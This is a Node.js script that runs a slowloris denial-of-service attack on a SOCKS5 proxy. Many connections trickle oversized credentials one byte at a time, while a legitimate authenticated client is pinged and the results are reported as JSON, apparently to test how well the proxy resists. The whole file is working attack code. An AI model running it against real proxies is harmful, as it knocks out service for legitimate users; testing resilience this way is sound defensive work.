#!/usr/bin/env node
// A slowloris attack on a SOCKS5 proxy that asks for username/password, next to one client that
// knows the password. First the real client opens an authenticated CONNECT to an echo server and
// keeps it; then N attackers connect at once, each sends a greeting and trickles its credentials
// one byte every EVERY_MS, never finishing (each byte would reset an idle timer).
//
// stdout, one JSON object per line (t: epoch ms):
//   {"ev":"held","t"}                        the authenticated connection echoed its first line
//   {"ev":"flood","admitted":A,"refused":R,"pending":P,"t"}
//        SETTLE_MS after the attack started: A got the proxy's method selection (they are in
//        their handshake), R were closed before any answer, P neither yet
//   {"ev":"pong-K","ok":true|false,"ms":M,"t"}  answer to stdin line "ping K": does the held
//        connection still echo?
//   {"ev":"summary-K","admitted":A,"refused":R,"open":O,"longestMs":L,"t"}  answer to "summary K":
//        O attackers still open, L the longest an admitted attacker lasted (ended ones)
// usage: node socks-slowloris.js HOST PORT USER PASS ECHO_HOST ECHO_PORT N EVERY_MS SETTLE_MS
'use strict'
const net = require('node:net')

const [host, portText, user, pass, echoHost, echoPortText, nText, everyText, settleText] = process.argv.slice(2)
const port = Number(portText)
const out = (o) => process.stdout.write(JSON.stringify({ ...o, t: Date.now() }) + '\n')

function userPass(u, p) {
  return Buffer.concat([Buffer.from([1, u.length]), Buffer.from(u), Buffer.from([p.length]), Buffer.from(p)])
}

function connectRequest(h, p) {
  const addr = h.split('.').map(Number)
  return Buffer.from([5, 1, 0, 1, ...addr, p >> 8, p & 0xff])
}

// ---- the authenticated client ----
const held = net.connect({ host, port })
let heldBuf = Buffer.alloc(0)
let onHeld = null
held.on('error', (e) => out({ ev: 'held-error', code: e.code }))
held.on('data', (d) => {
  heldBuf = Buffer.concat([heldBuf, d])
  if (onHeld) onHeld()
})
function waitHeld(n) {
  return new Promise((resolve) => {
    const check = () => {
      if (heldBuf.length >= n) {
        onHeld = null
        const b = heldBuf.subarray(0, n)
        heldBuf = heldBuf.subarray(n)
        resolve(b)
      }
    }
    onHeld = check
    check()
  })
}

async function authenticate() {
  await new Promise((r) => held.once('connect', r))
  held.write(Buffer.from([5, 1, 2]))
  await waitHeld(2)
  held.write(userPass(user, pass))
  const auth = await waitHeld(2)
  if (auth[1] !== 0) throw new Error('authentication refused')
  held.write(connectRequest(echoHost, Number(echoPortText)))
  const reply = await waitHeld(10)
  if (reply[1] !== 0) throw new Error(`CONNECT failed, REP ${reply[1]}`)
  held.write('hello\n')
  await waitHeld(6)
}

async function ping(k) {
  const t0 = Date.now()
  const line = `ping ${k}\n`
  held.write(line)
  const timer = new Promise((r) => setTimeout(() => r(null), 5_000))
  const got = await Promise.race([waitHeld(Buffer.byteLength(line)), timer])
  out({ ev: `pong-${k}`, ok: got !== null && got.toString() === line, ms: Date.now() - t0 })
}

// ---- the attackers ----
const attackers = []
function attack() {
  // 255-byte user name and password: 513 bytes, minutes at this pace.
  const creds = userPass('a'.repeat(255), 'b'.repeat(255))
  for (let i = 0; i < Number(nText); i++) {
    const a = { state: 'pending', started: Date.now(), endedMs: undefined, sent: 0 }
    const s = net.connect({ host, port })
    a.sock = s
    attackers.push(a)
    s.on('error', () => {})
    s.on('connect', () => s.write(Buffer.from([5, 1, 2])))
    s.once('data', () => {
      if (a.state !== 'pending') return
      a.state = 'admitted'
      const timer = setInterval(() => {
        if (s.destroyed || a.sent >= creds.length) return clearInterval(timer)
        s.write(creds.subarray(a.sent, a.sent + 1))
        a.sent++
      }, Number(everyText))
    })
    s.on('close', () => {
      a.endedMs = Date.now() - a.started
      if (a.state === 'pending') a.state = 'refused'
      else a.state = 'ended'
    })
  }
}

function counts() {
  const c = { admitted: 0, refused: 0, pending: 0, open: 0, longestMs: 0 }
  for (const a of attackers) {
    if (a.state === 'refused') c.refused++
    else if (a.state === 'pending') c.pending++
    else c.admitted++
    if (a.state === 'admitted') c.open++
    if (a.state === 'ended') c.longestMs = Math.max(c.longestMs, a.endedMs)
  }
  return c
}

authenticate().then(
  () => {
    out({ ev: 'held' })
    attack()
    setTimeout(() => {
      const { admitted, refused, pending } = counts()
      out({ ev: 'flood', admitted, refused, pending })
    }, Number(settleText))
  },
  (e) => {
    process.stderr.write(`authenticated client failed: ${e.message}\n`)
    process.exit(1)
  },
)

let input = ''
process.stdin.setEncoding('utf8')
process.stdin.on('data', (d) => {
  input += d
  let nl
  while ((nl = input.indexOf('\n')) >= 0) {
    const [cmd, k] = input.slice(0, nl).trim().split(/\s+/)
    input = input.slice(nl + 1)
    if (cmd === 'ping') void ping(k)
    else if (cmd === 'summary') {
      const { admitted, refused, open, longestMs } = counts()
      out({ ev: `summary-${k}`, admitted, refused, open, longestMs })
    }
  }
})
process.stdin.on('end', () => {
  for (const a of attackers) a.sock.destroy()
  held.destroy()
  process.exit(0)
})
